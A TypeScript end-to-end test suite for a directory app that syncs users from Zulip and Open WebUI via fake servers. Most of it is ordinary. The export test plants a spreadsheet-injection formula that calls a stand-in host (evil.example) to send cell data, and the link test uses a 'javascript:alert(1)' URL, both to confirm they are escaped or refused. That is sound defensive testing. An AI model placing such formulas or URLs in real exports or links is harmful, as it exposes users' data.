// The directory service end to end: the real dispatcher and handlers, real
// SQLite, the real keychain (in npm test), and the fake servers over HTTP.
import { readFileSync } from 'node:fs';
import type { SyncProgress } from '@shared/model';
import { startOpenWebUIFake, type OpenWebUIFake } from '../fakes/openwebui-fake';
import { startZulipFake, type ZulipFake } from '../fakes/zulip-fake';
import { addOpenWebUI, addZulip, openTestCore, type TestCore } from './core-fixture';

function userRequests(fake: { requests: { path: string }[] }, path: string): number {
  return fake.requests.filter((r) => r.path === path).length;
}

describe('connections', () => {
  let zulip: ZulipFake;
  let t: TestCore;
  beforeAll(async () => {
    zulip = await startZulipFake({ seed: 5, count: 80 });
  });
  afterAll(async () => {
    await zulip.close();
  });
  beforeEach(async () => {
    t = await openTestCore();
  });
  afterEach(async () => {
    await t.close();
  });

  it('tests before saving, reports who the key belongs to, and never returns the key', async () => {
    const saved = await t.call('connections:save', {
      draft: {
        kind: 'zulip',
        label: '',
        baseUrl: zulip.url.replace('http://', '') === zulip.url ? zulip.url : zulip.url,
        loginEmail: zulip.admin.email,
        secret: zulip.admin.apiKey,
      },
    });
    expect(saved.test).toMatchObject({
      ok: true,
      who: { role: 'owner', userId: String(zulip.admin.userId) },
    });
    expect(saved.connection).toMatchObject({ kind: 'zulip', hasSecret: true, demo: false });
    expect(saved.connection.label).toContain('127.0.0.1');
    const list = await t.call('connections:list', {});
    expect(list).toHaveLength(1);
    expect(list[0]?.lastTest?.ok).toBe(true);
    expect(JSON.stringify(list)).not.toContain(zulip.admin.apiKey);
    expect(JSON.stringify(saved)).not.toContain(zulip.admin.apiKey);
  });

  it('refuses a wrong key with a field error and saves nothing', async () => {
    const r = await t.result('connections:save', {
      draft: {
        kind: 'zulip',
        baseUrl: zulip.url,
        loginEmail: zulip.admin.email,
        secret: 'not-the-key-0000000000000000000000',
      },
    });
    expect(r).toMatchObject({ ok: false, error: { code: 'UNAUTHORIZED', field: 'secret' } });
    expect(await t.call('connections:list', {})).toEqual([]);
  });

  it('gives field errors for a bad URL and a missing login email before any request', async () => {
    const before = zulip.requests.length;
    const badUrl = await t.result('connections:save', {
      draft: { kind: 'zulip', baseUrl: 'ftp://chat.example.com', loginEmail: 'a@b.c', secret: 'k' },
    });
    expect(badUrl).toMatchObject({ ok: false, error: { code: 'INVALID_INPUT', field: 'baseUrl' } });
    const noEmail = await t.result('connections:save', {
      draft: { kind: 'zulip', baseUrl: zulip.url, secret: 'k' },
    });
    expect(noEmail).toMatchObject({
      ok: false,
      error: { code: 'INVALID_INPUT', field: 'loginEmail' },
    });
    const noKey = await t.result('connections:save', {
      draft: { kind: 'zulip', baseUrl: zulip.url, loginEmail: 'a@b.c' },
    });
    expect(noKey).toMatchObject({ ok: false, error: { code: 'INVALID_INPUT', field: 'secret' } });
    expect(zulip.requests.length).toBe(before);
  });

  it('tests a draft without saving it, and a saved connection by id', async () => {
    const draft = await t.call('connections:test', {
      draft: {
        kind: 'zulip',
        baseUrl: zulip.url,
        loginEmail: zulip.member.email,
        secret: zulip.member.apiKey,
      },
    });
    expect(draft).toMatchObject({ ok: true, who: { role: 'member' } });
    expect(await t.call('connections:list', {})).toEqual([]);
    const conn = await addZulip(t, zulip);
    const byId = await t.call('connections:test', { id: conn.id });
    expect(byId.ok).toBe(true);
  });

  it('removes a connection with its cache', async () => {
    const a = await addZulip(t, zulip);
    await t.call('directory:sync', { connectionId: a.id });
    expect((await t.call('users:search', { connectionIds: [a.id] })).total).toBe(80);
    await t.call('connections:remove', { id: a.id });
    expect(await t.call('connections:list', {})).toEqual([]);
    expect((await t.call('users:search', {})).total).toBe(0);
  });
});

describe('lookups, online and offline', () => {
  let zulip: ZulipFake;
  let owui: OpenWebUIFake;
  let t: TestCore;
  beforeEach(async () => {
    zulip = await startZulipFake({ seed: 5, count: 60 });
    owui = await startOpenWebUIFake({ seed: 5, count: 40 });
    t = await openTestCore();
  });
  afterEach(async () => {
    await t.close();
    await zulip.close();
    await owui.close();
  });

  it('looks up a Zulip user by ID and by email, and an Open WebUI user by id', async () => {
    const z = await addZulip(t, zulip);
    const target = zulip.directory.members.find(
      (m) => !m.is_bot && m.is_active && m.user_id !== zulip.admin.userId,
    )!;
    const byId = await t.call('users:lookup', { connectionId: z.id, ref: String(target.user_id) });
    expect(byId).toMatchObject({
      source: 'network',
      stale: null,
      user: { userId: String(target.user_id), name: target.full_name },
    });
    const email = target.delivery_email ?? target.email;
    const byEmail = await t.call('users:lookup', {
      connectionId: z.id,
      ref: email,
      waitForNetwork: true,
    });
    expect(byEmail.user.userId).toBe(String(target.user_id));

    const o = await addOpenWebUI(t, owui);
    const ou = owui.directory.users[3]!;
    const found = await t.call('users:lookup', { connectionId: o.id, ref: ou.id });
    expect(found).toMatchObject({
      source: 'network',
      user: { userId: ou.id, name: ou.name, kind: 'openwebui' },
    });
    // Everything looked up is now in the cache, searchable.
    const search = await t.call('users:search', { text: ou.name.split(' ')[0]! });
    expect(search.items.some((i) => i.userId === ou.id)).toBe(true);
  });

  it('answers from the cache at once, refreshes behind, and reports the refresh', async () => {
    const z = await addZulip(t, zulip);
    const id = String(zulip.directory.members[5]!.user_id);
    await t.call('users:lookup', { connectionId: z.id, ref: id });
    zulip.renameUser(Number(id), 'Renamed Person');
    const quick = await t.call('users:lookup', { connectionId: z.id, ref: id });
    expect(quick).toMatchObject({ source: 'cache', refreshing: true });
    expect(quick.user.name).not.toBe('Renamed Person');
    await expect.poll(() => t.eventsOf('users:refreshed').length).toBe(1);
    const refreshed = t.eventsOf('users:refreshed')[0]!;
    expect(refreshed.result).toMatchObject({
      ok: true,
      value: { source: 'network', user: { name: 'Renamed Person' } },
    });
    expect((await t.call('users:get', { connectionId: z.id, userId: id })).user.name).toBe(
      'Renamed Person',
    );
  });

  it('returns cached users marked stale when the servers are down, and the error when nothing is cached', async () => {
    const z = await addZulip(t, zulip);
    const o = await addOpenWebUI(t, owui);
    const zid = String(zulip.directory.members[7]!.user_id);
    const oid = owui.directory.users[5]!.id;
    await t.call('users:lookup', { connectionId: z.id, ref: zid });
    await t.call('users:lookup', { connectionId: o.id, ref: oid });
    await zulip.stop();
    await owui.stop();

    const zs = await t.call('users:lookup', { connectionId: z.id, ref: zid, waitForNetwork: true });
    expect(zs).toMatchObject({
      source: 'cache',
      stale: { code: 'OFFLINE' },
      user: { userId: zid },
    });
    const os = await t.call('users:lookup', { connectionId: o.id, ref: oid, waitForNetwork: true });
    expect(os).toMatchObject({
      source: 'cache',
      stale: { code: 'OFFLINE' },
      user: { userId: oid },
    });

    const missing = await t.result('users:lookup', {
      connectionId: z.id,
      ref: String(zulip.directory.members[9]!.user_id),
    });
    expect(missing).toMatchObject({ ok: false, error: { code: 'OFFLINE' } });

    const list = await t.call('connections:list', {});
    expect(list.map((c) => c.reachability.state)).toEqual(['offline', 'offline']);
    expect(list[0]!.reachability.since).toBeGreaterThan(0);

    // The server comes back: the next answer clears the offline state.
    await zulip.start();
    await t.call('users:lookup', { connectionId: z.id, ref: zid, waitForNetwork: true });
    expect((await t.call('connections:list', {}))[0]!.reachability.state).toBe('online');
    expect(t.eventsOf('connections:changed').length).toBeGreaterThan(0);
  });

  it('marks a user the server no longer has as gone, after a lookup and after a sync', async () => {
    const z = await addZulip(t, zulip);
    await t.call('directory:sync', { connectionId: z.id });
    const [a, b] = zulip.directory.members
      .filter((m) => m.user_id !== zulip.admin.userId && !m.is_bot)
      .slice(0, 2);
    zulip.deleteUser(a!.user_id);
    const looked = await t.call('users:lookup', {
      connectionId: z.id,
      ref: String(a!.user_id),
      waitForNetwork: true,
    });
    expect(looked.goneAt).not.toBeNull();
    expect(
      (await t.call('users:get', { connectionId: z.id, userId: String(a!.user_id) })).goneAt,
    ).not.toBeNull();

    zulip.deleteUser(b!.user_id);
    const summary = await t.call('directory:sync', { connectionId: z.id });
    expect(summary.gone).toBe(1);
    expect(
      (await t.call('users:get', { connectionId: z.id, userId: String(b!.user_id) })).goneAt,
    ).not.toBeNull();
    const active = await t.call('users:search', { connectionIds: [z.id], status: 'active' });
    expect(
      active.items.some((i) => i.userId === String(a!.user_id) || i.userId === String(b!.user_id)),
    ).toBe(false);
    const gone = await t.call('users:search', { connectionIds: [z.id], status: 'deactivated' });
    expect(
      gone.items
        .filter((i) => i.gone)
        .map((i) => i.userId)
        .sort(),
    ).toEqual([String(a!.user_id), String(b!.user_id)].sort());
  });

  it('makes one request for two identical lookups in flight', async () => {
    const o = await addOpenWebUI(t, owui);
    const id = owui.directory.users[8]!.id;
    const path = `/api/v1/users/${id}`;
    owui.setMode({ kind: 'slow', delayMs: 150 }, { match: (p) => p === path });
    const before = userRequests(owui, path);
    const [a, b] = await Promise.all([
      t.call('users:lookup', { connectionId: o.id, ref: id }),
      t.call('users:lookup', { connectionId: o.id, ref: id }),
    ]);
    expect(a.user.userId).toBe(id);
    expect(b.user.userId).toBe(id);
    expect(userRequests(owui, path) - before).toBe(1);
  });

  it('refuses a malformed reference before any request', async () => {
    const z = await addZulip(t, zulip);
    const before = zulip.requests.length;
    for (const ref of ['-4', '0', '12abc', 'not an email', 'a@']) {
      const r = await t.result('users:lookup', { connectionId: z.id, ref });
      expect(r, ref).toMatchObject({ ok: false, error: { code: 'INVALID_INPUT' } });
    }
    expect(zulip.requests.length).toBe(before);
  });

  it('serves an avatar that needs the bearer token without the key reaching the answer', async () => {
    const o = await addOpenWebUI(t, owui);
    const user = owui.directory.users.find((u) =>
      u.profile_image_url.startsWith('/api/v1/users/'),
    )!;
    await t.call('users:lookup', { connectionId: o.id, ref: user.id });
    const answer = await t.core.serveAvatar(o.id, user.id);
    expect(answer.status).toBe(200);
    expect(answer.headers['Content-Type']).toBe('image/png');
    expect(Buffer.from(answer.body).subarray(1, 4).toString()).toBe('PNG');
    const imageRequest = owui.requests.find((r) => r.path === user.profile_image_url);
    expect(imageRequest?.headers.authorization).toBe(`Bearer ${owui.adminKey}`);
    expect(JSON.stringify(answer.headers)).not.toContain(owui.adminKey);
    // Cached now: served again with the server gone.
    await owui.stop();
    const offline = await t.core.serveAvatar(o.id, user.id);
    expect(offline.status).toBe(200);
    // A user never fetched has no picture to serve: 204, so the window shows initials.
    expect((await t.core.serveAvatar(o.id, 'nobody')).status).toBe(204);
  });
});

describe('sync', () => {
  let zulip: ZulipFake;
  let owui: OpenWebUIFake;
  let t: TestCore;
  beforeAll(async () => {
    zulip = await startZulipFake({ seed: 11, count: 10_000 });
    owui = await startOpenWebUIFake({ seed: 11, count: 10_000 });
  });
  afterAll(async () => {
    await zulip.close();
    await owui.close();
  });
  beforeEach(async () => {
    t = await openTestCore();
  });
  afterEach(async () => {
    await t.close();
  });

  function progressOf(connectionId: string): SyncProgress[] {
    return t.eventsOf('directory:sync-progress').filter((p) => p.connectionId === connectionId);
  }

  function expectMonotone(progress: SyncProgress[], total: number): void {
    expect(progress.length).toBeGreaterThan(2);
    // (How often the window hears is the pacer's rule, tested on a fake clock in
    // service-helpers.test.ts: a real clock on a busy machine says nothing about it.)
    for (let i = 1; i < progress.length; i++) {
      expect(progress[i]!.done).toBeGreaterThanOrEqual(progress[i - 1]!.done);
      expect(progress[i]!.at).toBeGreaterThanOrEqual(progress[i - 1]!.at);
    }
    expect(progress.at(-1)).toMatchObject({ phase: 'done', done: total, summary: { total } });
  }

  it.each(['zulip', 'openwebui'] as const)(
    'syncs 10 000 users from %s with monotone progress',
    async (kind) => {
      const conn = kind === 'zulip' ? await addZulip(t, zulip) : await addOpenWebUI(t, owui);
      const summary = await t.call('directory:sync', { connectionId: conn.id });
      expect(summary).toMatchObject({ total: 10_000, added: 10_000, updated: 0, gone: 0 });
      expectMonotone(progressOf(conn.id), 10_000);
      expect((await t.call('users:search', { connectionIds: [conn.id], limit: 1 })).total).toBe(
        10_000,
      );
      const listed = (await t.call('connections:list', {}))[0]!;
      expect(listed).toMatchObject({
        userCount: 10_000,
        syncing: false,
        lastSync: { total: 10_000 },
      });
      // A second sync with nothing changed: all unchanged.
      const again = await t.call('directory:sync', { connectionId: conn.id });
      expect(again).toMatchObject({ total: 10_000, added: 0, unchanged: 10_000, gone: 0 });
    },
  );

  it('joins a second sync call to the running one', async () => {
    const conn = await addOpenWebUI(t, owui);
    const before = userRequests(owui, '/api/v1/users/');
    const [a, b] = await Promise.all([
      t.call('directory:sync', { connectionId: conn.id }),
      t.call('directory:sync', { connectionId: conn.id }),
    ]);
    expect(a).toEqual(b);
    expect(userRequests(owui, '/api/v1/users/') - before).toBe(334);
  });

  it('leaves a consistent cache when cancelled half way', async () => {
    const conn = await addOpenWebUI(t, owui);
    const running = t.result('directory:sync', { connectionId: conn.id });
    await expect
      .poll(() => progressOf(conn.id).at(-1)?.done ?? 0, { timeout: 60_000, interval: 20 })
      .toBeGreaterThanOrEqual(5_000);
    expect(await t.call('directory:cancel-sync', { connectionId: conn.id })).toEqual({
      cancelled: true,
    });
    const outcome = await running;
    expect(outcome).toMatchObject({ ok: false, error: { code: 'CANCELLED' } });
    expect(progressOf(conn.id).at(-1)?.phase).toBe('cancelled');
    const cached = (await t.call('users:search', { connectionIds: [conn.id], limit: 1 })).total;
    expect(cached).toBeGreaterThanOrEqual(5_000);
    expect(cached).toBeLessThan(10_000);
    // Nothing was marked gone by a sync that did not finish.
    expect(
      (await t.call('users:search', { connectionIds: [conn.id], status: 'deactivated', limit: 1 }))
        .total,
    ).toBe(0);
    // Every cached user is whole: readable with its payload.
    const sample = await t.call('users:search', { connectionIds: [conn.id], limit: 50 });
    for (const s of sample.items) {
      const rec = await t.call('users:get', { connectionId: conn.id, userId: s.userId });
      expect(rec.user.userId).toBe(s.userId);
      expect(rec.raw).toMatchObject({ id: s.userId });
    }
    // And a new sync completes the directory.
    const done = await t.call('directory:sync', { connectionId: conn.id });
    expect(done.total).toBe(10_000);
    expect((await t.call('users:search', { connectionIds: [conn.id], limit: 1 })).total).toBe(
      10_000,
    );
  });
});

describe('rate limits', () => {
  it('completes a sync against a fake limited to 200 requests a minute, saying it waits', async () => {
    const zulip = await startZulipFake({ seed: 13, count: 300 });
    const t = await openTestCore();
    try {
      const conn = await addZulip(t, zulip);
      // Spend the minute's budget on lookups, as an admin busy with the app would.
      zulip.setRateLimit({ limit: 200, windowSeconds: 60 });
      const ids = zulip.directory.members.map((m) => String(m.user_id));
      const start = zulip.requests.length;
      for (let i = 0; zulip.requests.length - start < 197; i++) {
        const r = await t.result('users:lookup', {
          connectionId: conn.id,
          ref: ids[i % ids.length]!,
          waitForNetwork: true,
        });
        expect(r.ok).toBe(true);
      }
      expect(t.eventsOf('directory:sync-progress')).toEqual([]);
      const summary = await t.call('directory:sync', { connectionId: conn.id });
      expect(summary.total).toBe(300);
      const progress = t.eventsOf('directory:sync-progress');
      const waiting = progress.filter((p) => p.phase === 'waiting');
      expect(waiting.length).toBeGreaterThan(0);
      expect(waiting[0]!.retryAfterSeconds).toBeGreaterThan(0);
      expect(waiting[0]!.message).toMatch(/rate limit/i);
      expect(zulip.requests.some((r) => r.path === '/api/v1/users')).toBe(true);
    } finally {
      await t.close();
      await zulip.close();
    }
  }, 150_000);
});

describe('export', () => {
  it('writes CSV with a formula-named user escaped, and JSON', async () => {
    const owui = await startOpenWebUIFake({ seed: 17, count: 30 });
    const t = await openTestCore();
    try {
      const victim = owui.directory.users[4]!;
      owui.renameUser(victim.id, '=HYPERLINK("https://evil.example/?"&A1,"Click")');
      const conn = await addOpenWebUI(t, owui);
      await t.call('directory:sync', { connectionId: conn.id });
      const csv = await t.call('directory:export', {
        format: 'csv',
        query: {
          text: 'hyperlink',
          connectionIds: [],
          roles: [],
          accounts: 'all',
          status: 'all',
          sort: 'name',
          direction: 'asc',
        },
      });
      expect(csv.count).toBe(1);
      const text = readFileSync(csv.path!, 'utf8');
      expect(text.charCodeAt(0)).toBe(0xfeff);
      const [, row] = text.slice(1).split('\r\n');
      expect(row).toContain(`"'=HYPERLINK(""https://evil.example/?""&A1,""Click"")"`);
      expect(row!.split(',').every((cell) => !/^"?[=+\-@]/.test(cell))).toBe(true);

      const json = await t.call('directory:export', { format: 'json' });
      const parsed = JSON.parse(readFileSync(json.path!, 'utf8')) as {
        count: number;
        users: { user: { userId: string } }[];
      };
      expect(parsed.count).toBe(30);
      expect(parsed.users).toHaveLength(30);
      expect(readFileSync(json.path!, 'utf8')).not.toContain(owui.adminKey);
    } finally {
      await t.close();
      await owui.close();
    }
  });
});

describe('demo and app info', () => {
  it('loads an offline demo of two connections, searchable, and removable', async () => {
    const t = await openTestCore({
      fetch: async () => {
        throw new Error('the demo must not touch the network');
      },
    });
    try {
      const list = await t.call('demo:load', {});
      expect(list.map((c) => [c.id, c.kind, c.demo])).toEqual([
        ['demo-zulip', 'zulip', true],
        ['demo-openwebui', 'openwebui', true],
      ]);
      const all = await t.call('users:search', { limit: 5 });
      expect(all.total).toBe(360);
      const bots = await t.call('users:search', { accounts: 'bots', limit: 5 });
      expect(bots.total).toBeGreaterThan(0);
      const first = all.items[0]!;
      const looked = await t.call('users:lookup', {
        connectionId: first.connectionId,
        ref: first.userId,
      });
      expect(looked).toMatchObject({ source: 'cache', refreshing: false });
      const synced = await t.call('directory:sync', { connectionId: 'demo-zulip' });
      expect(synced.total).toBe(240);
      await t.call('connections:remove', { id: 'demo-zulip' });
      expect((await t.call('users:search', { limit: 1 })).total).toBe(120);
      const info = await t.call('app:info', {});
      expect(info.counts).toMatchObject({ connections: 1, users: 120 });
      expect(info.database?.path).toContain(t.userDataDir);
      expect(info.database?.readOnly).toBe(false);
    } finally {
      await t.close();
    }
  });

  it('opens only http(s) links', async () => {
    const t = await openTestCore();
    try {
      expect(await t.call('shell:open-external', { url: 'https://zulip.com/help' })).toEqual({
        opened: true,
      });
      const bad = await t.result('shell:open-external', { url: 'javascript:alert(1)' });
      expect(bad).toMatchObject({ ok: false, error: { code: 'INVALID_INPUT' } });
      expect(t.opened).toEqual(['https://zulip.com/help']);
    } finally {
      await t.close();
    }
  });
});
